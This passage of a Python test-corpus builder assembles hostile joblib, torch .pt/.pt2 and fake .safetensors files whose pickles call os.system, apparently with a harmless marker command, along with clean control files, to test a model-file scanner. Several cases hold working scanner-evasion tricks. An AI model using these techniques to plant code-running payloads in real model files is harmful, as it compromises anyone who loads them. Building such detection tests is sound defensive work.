     why="joblib.dump file: the dict's value 'x' (after the raw array bytes) replaced by os.system(cmd)")(_joblib_inner)
case("joblib_appended", "5-container", "evil.joblib", why="joblib.dump file with a payload pickle appended")(
    _joblib_appended)
for _codec, _fn in JOBLIB_CODECS.items():
    case(f"joblib_inner_value_{_codec}", "5-container", "evil.joblib", runner="joblib",
         why=f"the inner-value joblib file, {_codec}-compressed as joblib writes it")(
        lambda c, _fn=_fn: _fn(_joblib_inner(c)))
    case(f"joblib_appended_{_codec}", "5-container", "evil.joblib",
         why=f"the appended-payload joblib file, {_codec}-compressed")(lambda c, _fn=_fn: _fn(_joblib_appended(c)))


def _dtype(descr: str, state: bytes | None) -> bytes:
    d = GLOBAL("numpy", "dtype") + BU(descr) + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
    return d + (state + BUILD if state is not None else b"")


def _dtype_state(elsize: int, align: int, flags: int = 0) -> bytes:
    return MARK + BININT1(3) + BU("<") + NONE + NONE + NONE + BININT(elsize) + BININT(align) + BININT1(flags) + TUPLE


def _wrapper_state(shape: int, dtype: bytes) -> bytes:
    return (EMPTY_DICT + MARK + BU("subclass") + GLOBAL("numpy", "ndarray") + BU("shape") + BININT1(shape) + TUPLE1
            + BU("order") + BU("C") + BU("dtype") + dtype + BU("allow_mmap") + NEWTRUE + SETITEMS)


def _hidden_in_literal(skipped_by_scanner: int, region: int, hidden: bytes) -> bytes:
    """``region`` bytes joblib reads as array data; a scanner that skips only ``skipped_by_scanner`` of them
    then reads a BINBYTES literal that swallows the rest of the region and ``hidden`` (what joblib runs)."""
    head = b"\x00" * skipped_by_scanner + b"B"
    filler = region - len(head) - 4
    assert filler >= 0
    return head + struct.pack("<I", filler + len(hidden)) + b"\x00" * filler + hidden


@case("joblib_dtype_elsize_lie", "5-container", "evil.joblib", runner="joblib",
      why="NumpyArrayWrapper float64 array whose dtype state claims elsize 1: numpy ignores it and joblib "
          "reads 8 bytes per item, so a scanner sizing the raw data from the state loses step with joblib")
def _(c):
    core = GLOBAL("os", "system") + BU(sh(c.marker)) + TUPLE1 + REDUCE
    wrapper = GLOBAL("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    state = _wrapper_state(10, _dtype("f8", _dtype_state(1, 1)))
    return (PROTO(2) + EMPTY_DICT + MARK + BU("w") + wrapper + state + BUILD
            + _hidden_in_literal(10, 80, core) + POP + SETITEMS + STOP)


@case("joblib_wrapper_via_reconstructor", "5-container", "evil.joblib", runner="joblib",
      why="the NumpyArrayWrapper built by copyreg._reconstructor (joblib checks isinstance, not the opcode's "
          "global), so a scanner keyed on the global's name does not skip the raw array bytes")
def _(c):
    core = GLOBAL("os", "system") + BU(sh(c.marker)) + TUPLE1 + REDUCE
    wrapper = (GLOBAL("copyreg", "_reconstructor") + GLOBAL("joblib.numpy_pickle", "NumpyArrayWrapper")
               + GLOBAL("builtins", "object") + NONE + TUPLE3 + REDUCE)
    state = _wrapper_state(10, _dtype("f8", _dtype_state(-1, -1)))
    return (PROTO(2) + EMPTY_DICT + MARK + BU("w") + wrapper + state + BUILD
            + _hidden_in_literal(0, 80, core) + POP + SETITEMS + STOP)


@case("joblib_object_dtype_alias", "5-container", "evil.joblib", runner="joblib",
      why="NumpyArrayWrapper with dtype '|O' and no dtype state: an object array to joblib (a nested pickle), "
          "raw bytes to a scanner that only recognises descr 'O...' or the state's flags")
def _(c):
    cmd = sh(c.marker)
    inner = system_pickle(c.marker)
    pad = (-len(inner)) % 8
    inner = PROTO(2) + GLOBAL("os", "system") + BU(cmd + " " * pad) + TUPLE1 + REDUCE + STOP
    assert len(inner) % 8 == 0
    wrapper = GLOBAL("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    state = _wrapper_state(len(inner) // 8, _dtype("|O", None))
    return PROTO(2) + EMPTY_DICT + MARK + BU("w") + wrapper + state + BUILD + inner + SETITEMS + STOP


@case("joblib_ndarraywrapper_side_npy", "5-container", "evil.pkl", runner="joblib",
      why="joblib's legacy NDArrayWrapper makes joblib np.load(<its filename>, allow_pickle=True): an object "
          ".npy next to the file runs its payload")
def _(c):
    c.side("side_payload.npy", npy_bytes("'|O'", system_pickle(c.marker)))
    return (PROTO(2) + GLOBAL("joblib.numpy_pickle_compat", "NDArrayWrapper") + EMPTY_TUPLE + NEWOBJ
            + EMPTY_DICT + MARK + BU("filename") + BU("side_payload.npy") + BU("subclass")
            + GLOBAL("numpy", "ndarray") + BU("allow_mmap") + NEWFALSE + SETITEMS + BUILD + STOP)


@case("joblib_zfile_compat", "5-container", "evil.joblib", expect="not_clean", runner="joblib",
      why="joblib < 0.10 'ZF' zfile (zlib with a hex length header), which joblib.load still unpickles")
def _(c):
    from joblib.numpy_pickle_compat import write_zfile

    buf = io.BytesIO()
    write_zfile(buf, system_pickle(c.marker))
    return buf.getvalue()


@case("safetensors_named_pickle", "5-container", "model.safetensors", runner="pickle",
      why="a payload pickle saved under the name model.safetensors")
def _(c):
    return system_pickle(c.marker)


@case("pt2_sample_inputs", "5-container", "evil.pt2", runner="torch_export",
      why="torch.export .pt2 whose data/sample_inputs/model.pt is the payload: torch.export.load falls back "
          "to torch.load(weights_only=False) on it")
def _(c):
    return rewrite_zip(c.t.pt2(), lambda n, d: [(n, system_pickle(c.marker))]
                       if n.endswith("data/sample_inputs/model.pt") else None)


# 6. legacy torch.save format
@case("legacy_appended", "6-legacy", "evil.pt", why="legacy torch.save file with a payload pickle after the storages")
def _(c):
    return c.t.torch_legacy() + system_pickle(c.marker)


def _legacy_replace(c: Ctx, index: int) -> bytes:
    data = c.t.torch_legacy()
    start, end = split_pickles(data, 5)[index]
    return data[:start] + system_pickle(c.marker) + data[end:]


case("legacy_object_replaced", "6-legacy", "evil.pt", runner="torch",
     why="legacy torch.save file whose 4th pickle (the object) is the payload")(lambda c: _legacy_replace(c, 3))
case("legacy_keys_replaced", "6-legacy", "evil.pt", runner="torch",
     why="legacy torch.save file whose 5th pickle (the storage keys) is the payload")(lambda c: _legacy_replace(c, 4))
case("legacy_magic_then_payload", "6-legacy", "evil.pt", runner="torch",
     why="the real torch magic-number pickle, then the payload where the protocol version belongs")(
    lambda c: _legacy_replace(c, 1))


@case("legacy_tar", "6-legacy", "evil.pt", expect="not_clean", runner="torch",
      why="torch's oldest (tar) format: torch.load unpickles the 'storages' member")
def _(c):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("storages", system_pickle(c.marker)), ("tensors", system_pickle(c.marker)),
                           ("pickle", system_pickle(c.marker))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# --- clean files (must scan clean) ------------------------------------------------------------------

def _clean_sklearn(_c):
    import pickle

    import numpy as np
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    X = rng.normal(size=(40, 3))
    return pickle.dumps(LogisticRegression().fit(X, (X[:, 0] > 0).astype(int)))


def _clean_joblib(compress):
    def make(_c):
        import joblib
        import numpy as np

        buf = io.BytesIO()
        joblib.dump({"w": np.ones(10), "x": 1, "m": np.arange(12, dtype=np.int32).reshape(3, 4)}, buf,
                    compress=compress)
        return buf.getvalue()
    return make


CLEAN: dict[str, tuple[str, Callable]] = {
    "clean_sklearn_pickle": ("model.pkl", _clean_sklearn),
    "clean_torch_state_dict_zip": ("sd.pt", lambda c: c.t.torch_zip()),
    "clean_torch_state_dict_legacy": ("sd.pt", lambda c: c.t.torch_legacy()),
    "clean_joblib_arrays": ("model.joblib", _clean_joblib(0)),
    "clean_joblib_zlib": ("model.joblib", _clean_joblib(3)),
    "clean_joblib_xz": ("model.joblib", _clean_joblib(("xz", 3))),
}


# --- building ----------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Built:
    spec: Spec | None
    path: Path
    marker: Path


HOSTILE_NAMES = [s.name for s in SPECS]
assert len(set(HOSTILE_NAMES)) == len(HOSTILE_NAMES)
BY_NAME = {s.name: s for s in SPECS}


def build_corpus(root: Path, names=None) -> dict[str, Built]:
    """Write the hostile cases (all, or ``names``) and the clean files under ``root``."""
    root = Path(root)
    t = Templates()
    out: dict[str, Built] = {}
    for spec in SPECS:
        if names is not None and spec.name not in names:
            continue
        d = root / spec.name
        d.mkdir(parents=True, exist_ok=True)
        ctx = Ctx(d, d / f"{MARK_TOKEN}_{spec.name}", t)
        path = d / spec.filename
        path.write_bytes(spec.build(ctx))
        out[spec.name] = Built(spec, path, ctx.marker)
    if names is None:
        for name, (filename, make) in CLEAN.items():
            d = root / name
            d.mkdir(parents=True, exist_ok=True)
            ctx = Ctx(d, d / f"{MARK_TOKEN}_{name}", t)
            (d / filename).write_bytes(make(ctx))
            out[name] = Built(None, d / filename, ctx.marker)
    return out
